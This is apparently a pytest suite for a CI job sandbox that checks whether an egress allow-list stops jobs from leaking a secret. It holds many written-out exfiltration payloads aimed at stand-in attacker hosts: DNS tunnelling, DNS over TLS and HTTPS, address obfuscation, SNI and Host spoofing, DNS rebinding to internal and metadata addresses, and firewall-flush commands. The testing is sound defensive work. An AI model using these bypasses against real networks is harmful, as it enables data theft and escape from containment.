"""A job whose rule lists what it reaches sends nothing anywhere else.

Each attack is also made by a job whose rule has no list, and succeeds there.
"""

import uuid
from collections.abc import Iterator

import pytest

from tests.attacks.attacker import Attacker, attacker
from tests.attacks.outside import (
    ALLOWED,
    DATABASE,
    EVIL,
    EVIL_RESOLVER,
    LISTED,
    PUBLIC_RESOLVER,
    Outside,
    led_elsewhere,
    outside,
)
from tests.lab.engine import eventually
from tests.lab.lab import GATEWAY, Fleet

pytestmark = pytest.mark.lab

RULES = """  - {name: open, when: {branch: open}, allow: {}}
  - name: listed
    allow:
      egress:
        hosts: ["*.allowed.example"]
        cidrs: [198.51.100.0/24, 9.9.9.0/24]
        private: [198.18.0.0/15]
"""

PYTHON = """
python3 - <<'PY' 2>&1
import os, socket, struct, sys
def udp(address, port, data, *, kind=socket.SOCK_DGRAM, protocol=0):
    with socket.socket(socket.AF_INET, kind, protocol) as s:
        s.sendto(data, (address, port))
def tcp(address, port, data):
    with socket.create_connection((address, port), timeout=2) as s:
        s.sendall(data)
def resolver():
    return next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver"))
def name(*labels):
    return b"".join(bytes([len(l)]) + l for l in labels) + b"\\0"
def query(qname, kind=1, more=b"", count=0):
    question = qname + struct.pack("!HH", kind, 1)
    return struct.pack("!6H", 7, 0x0100, 1, 0, 0, count) + question + more
def ask(message, to=None):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.sendto(message, (to or resolver(), 53))
        return s.recv(4096)
SECRET = b"{secret}"
{body}
PY
"""


@pytest.fixture(scope="module")
def hosts(shared: Fleet) -> Iterator[Outside]:
    with outside() as made, led_elsewhere():
        yield made


@pytest.fixture(scope="module")
def listed(shared: Fleet, hosts: Outside) -> Iterator[Attacker]:
    shared.policy(RULES)
    with attacker(shared) as made:
        yield made


@pytest.fixture(scope="module")
def unlisted(shared: Fleet, listed: Attacker) -> Iterator[Attacker]:
    with attacker(shared, BUILDKITE_BRANCH="open") as made:
        yield made


def script(body: str) -> tuple[str, str]:
    """Return a script, and the secret that it tries to send."""
    secret = uuid.uuid4().hex
    return PYTHON.replace("{body}", body).replace("{secret}", secret), secret


# What is sent out, each by a different way; SECRET has to arrive at nobody.
SENDS = {
    "dns to another resolver": f"ask(query(name(SECRET, b'evil', b'example')), '{EVIL_RESOLVER}')",
    "dns to another resolver over tcp": (
        f"m = query(name(SECRET, b'evil', b'example')); "
        f"tcp('{EVIL_RESOLVER}', 53, struct.pack('!H', len(m)) + m)"
    ),
    "dns over tls": f"tcp('{EVIL_RESOLVER}', 853, SECRET)",
    "dns over tls at a listed address": f"tcp('{LISTED}', 853, SECRET)",
    "dns to a listed address": f"udp('{LISTED}', 53, SECRET)",
    "dns over https at a public resolver": f"tcp('{PUBLIC_RESOLVER}', 443, SECRET)",
    "dns over https by http3": f"udp('{PUBLIC_RESOLVER}', 443, SECRET)",
    "an address in place of a name": f"tcp('{EVIL}', 443, SECRET)",
    "an address as a number": f"tcp('{int.from_bytes(bytes(map(int, EVIL.split('.'))), 'big')}', "
    "443, SECRET)",
    "an address mapped into ipv6": (
        "s = socket.socket(socket.AF_INET6); s.settimeout(2); "
        f"s.connect(('::ffff:{EVIL}', 443)); s.sendall(SECRET)"
    ),
    "quic": f"udp('{EVIL}', 443, SECRET)",
    "data in the first packet": (
        "s = socket.socket(); s.settimeout(2); "
        "s.setsockopt(socket.IPPROTO_TCP, 30, 1)\n"  # TCP_FASTOPEN_CONNECT
        f"s.connect(('{EVIL}', 443)); s.sendall(SECRET); s.close()"
    ),
    "past the routes": (
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.setsockopt(socket.SOL_SOCKET, 25, b'eth0')\n"  # SO_BINDTODEVICE
        f"s.sendto(SECRET, ('{EVIL}', 443))"
    ),
    "the port of an allowed service": f"tcp('{EVIL}', 80, SECRET)",
    "the name of an allowed host in tls": (
        "hello = bytes.fromhex('16030100') + SECRET + name(b'git', b'allowed', b'example')\n"
        f"tcp('{EVIL}', 443, hello)"
    ),
    "the name of an allowed host in http": (
        f"tcp('{EVIL}', 80, b'GET /' + SECRET + b' HTTP/1.1\\r\\nHost: git.allowed.example\\r\\n')"
    ),
    "a port of the host that leads elsewhere": f"tcp('{GATEWAY}', 30080, SECRET)",
    "a database of the vpc": f"tcp('{DATABASE}', 443, SECRET)",
}


@pytest.mark.parametrize("way", SENDS)
def test_nothing_is_sent_anywhere_else(
    way: str, listed: Attacker, unlisted: Attacker, hosts: Outside
) -> None:
    sending, secret = script(SENDS[way])
    unlisted.tries(sending)
    eventually(lambda: hosts.has(secret), f"without a list, this arrives: {way}")
    sending, secret = script(SENDS[way])
    listed.tries(sending)
    assert not hosts.has(secret)
    assert not hosts.was_asked(secret)


# What a name's lookup carries out, or brings in. The secret is in the name.
TUNNELS = {
    "a name of the attacker's": "ask(query(name(SECRET, b'evil', b'example')))",
    "a text record": "ask(query(name(SECRET, b'evil', b'example'), 16))",
    "any record": "ask(query(name(SECRET, b'evil', b'example'), 255))",
    "an ipv6 record": "ask(query(name(SECRET, b'evil', b'example'), 28))",
    "a null record": "ask(query(name(SECRET, b'evil', b'example'), 10))",
    "a text record of an allowed name": "ask(query(name(SECRET, b'allowed', b'example'), 16))",
    "an unknown record of an allowed name": (
        "ask(query(name(SECRET, b'allowed', b'example'), 65280))"
    ),
    "a label that reads as two": "ask(query(name(SECRET, b'evil.allowed', b'example')))",
    "a dot in a label": "ask(query(name(SECRET + b'.allowed.example')))",
    "beside an allowed question": (
        "r = name(SECRET, b'evil', b'example') + struct.pack('!HHIH', 16, 1, 0, 2) + b'\\1x'\n"
        "ask(query(name(b'git', b'allowed', b'example'), more=r, count=1))"
    ),
    "behind an allowed question": (
        "ask(query(name(b'git', b'allowed', b'example')) + name(SECRET, b'evil', b'example'))"
    ),
}


@pytest.mark.parametrize("way", TUNNELS)
def test_nothing_leaves_in_a_query(
    way: str, listed: Attacker, unlisted: Attacker, hosts: Outside
) -> None:
    asking, secret = script(TUNNELS[way])
    unlisted.tries(asking)
    eventually(lambda: hosts.was_asked(secret), f"without a list, this arrives: {way}")
    asking, secret = script(TUNNELS[way])
    listed.tries(asking)
    assert not hosts.was_asked(secret)


REBOUND = """
for each in sys.argv[1:] or {names!r}:
    try: print(each, sorted(a[4][0] for a in socket.getaddrinfo(each, 443, socket.AF_INET,
                                                                socket.SOCK_STREAM)))
    except OSError: print(each, [])
"""
INSIDE = ["rebound.allowed.example", "metadata.allowed.example", "resolver.allowed.example"]


def test_an_allowed_name_does_not_lead_inside(listed: Attacker, unlisted: Attacker) -> None:
    names = [*INSIDE, "both.allowed.example"]
    asking, _ = script(REBOUND.format(names=names))
    found = [f"[{one!r}]" for one in (DATABASE, "169.254.169.254", PUBLIC_RESOLVER)]
    both = sorted((DATABASE, ALLOWED))
    assert unlisted.tries(asking).stdout.splitlines() == [
        f"{name} {address}" for name, address in zip(names, [*found, both], strict=True)
    ]
    assert listed.tries(asking).stdout.splitlines() == [
        *(f"{name} []" for name in INSIDE), f"both.allowed.example ['{ALLOWED}']",
    ]  # fmt: skip


def test_a_rebound_name_does_not_open_its_address(
    listed: Attacker, unlisted: Attacker, hosts: Outside
) -> None:
    """Looked up as often as it likes, also with a good address beside the bad one."""
    body = f"""
for each in ("rebound.allowed.example", "both.allowed.example"):
    try: socket.getaddrinfo(each, 443)
    except OSError: pass
tcp('{DATABASE}', 443, SECRET)
"""
    sending, secret = script(body)
    unlisted.tries(sending)
    eventually(lambda: hosts.has(secret, DATABASE), "without a list, the database is reached")
    sending, secret = script(body)
    listed.tries(sending)
    assert not hosts.has(secret)


def test_a_redirect_does_not_lead_out(listed: Attacker, unlisted: Attacker, hosts: Outside) -> None:
    body = """
import urllib.request
try: print(urllib.request.urlopen("http://git.allowed.example/redirect", timeout=3).status)
except OSError as refused: print(refused)
"""
    asking, _ = script(body)
    assert "200" in unlisted.tries(asking).stdout
    assert hosts.has("GET /stolen?secret", EVIL)
    hosts.received.clear()
    assert "200" not in listed.tries(asking).stdout
    assert hosts.has("GET /redirect", ALLOWED)
    assert not hosts.has("stolen")


def test_ipv6_is_no_way_out(listed: Attacker, unlisted: Attacker) -> None:
    """Without a list it has none either, but it gets the addresses: an answer is a way in."""
    body = """
try: print(socket.getaddrinfo("any.evil.example", 443, socket.AF_INET6)[0][4][0])
except OSError as refused: print("none")
try: socket.create_connection(("fd77::2", 443), timeout=1)
except OSError: print("refused")
"""
    asking, _ = script(body)
    assert unlisted.tries(asking).stdout.splitlines() == ["fd77::2", "refused"]
    assert listed.tries(asking).stdout.splitlines() == ["none", "refused"]


def test_a_neighbours_service_is_not_reached_though_its_network_is_listed(
    listed: Attacker, unlisted: Attacker
) -> None:
    """The list of this rule has the network of all jobs: the host's ruleset decides."""
    serving = unlisted.tries(
        "python3 -m http.server 8000 >/dev/null 2>&1 &\n"
        "until (exec 3<>/dev/tcp/127.0.0.1/8000) 2>/dev/null; do :; done; echo serves"
    )
    assert serving.stdout == "serves\n"
    body = f"tcp({unlisted.address!r}, 8000, b'GET / HTTP/1.0\\r\\n\\r\\n'); print('reached')"
    asking, _ = script(body)
    assert unlisted.tries(asking).stdout == "reached\n"
    assert "reached" not in listed.tries(asking).stdout


def test_what_the_list_has_is_reached(listed: Attacker, hosts: Outside) -> None:
    sending, secret = script(
        f"tcp('git.allowed.example', 443, SECRET); tcp('{LISTED}', 443, SECRET); "
        f"udp('{LISTED}', 443, SECRET)"
    )
    done = listed.tries(sending)
    eventually(lambda: hosts.has(secret, LISTED), "a listed network is reached")
    eventually(lambda: hosts.has(secret, ALLOWED), "a listed name is reached")
    assert done.stdout == ""


def test_a_refused_name_fails_at_once(listed: Attacker) -> None:
    body = """
import time
before = time.monotonic()
attempts = (lambda: socket.getaddrinfo("evil.example", 443), lambda: tcp("203.0.113.66", 443, b""))
for attempt in attempts:
    try: attempt()
    except OSError as refused: print(type(refused).__name__, refused)
print(time.monotonic() - before < 1)
"""
    asking, _ = script(body)
    lines = listed.tries(asking).stdout.splitlines()
    assert lines == [
        "gaierror [Errno -2] Name or service not known",
        "ConnectionRefusedError [Errno 111] Connection refused",
        "True",
    ]


def test_the_job_cannot_change_its_table_or_its_resolver(listed: Attacker) -> None:
    done = listed.tries(
        "nft flush ruleset; nft list ruleset; ip addr add 203.0.113.66/32 dev lo; "
        "echo nameserver 203.0.113.53 > /etc/resolv.conf; cat /etc/resolv.conf"
    )
    assert done.stdout.splitlines() == ["nameserver 127.0.0.53"]
